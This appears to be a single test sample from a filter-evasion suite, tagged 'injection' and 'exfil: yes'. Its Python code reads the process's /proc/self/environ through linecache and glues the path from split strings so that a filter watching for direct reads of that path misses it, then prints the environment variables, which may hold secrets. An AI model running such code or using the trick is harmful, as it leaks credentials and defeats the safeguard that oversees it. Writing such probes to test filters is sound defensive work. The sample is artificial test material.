# family: injection
# filterfamily: proc
# tries: read this process's procfs environment with linecache instead of open, by a path glued from halves
# source: none
# exfil: yes
import linecache

for line in linecache.getlines("/pr" + "oc/self/environ"):
    print(line.replace("\0", "\n"))
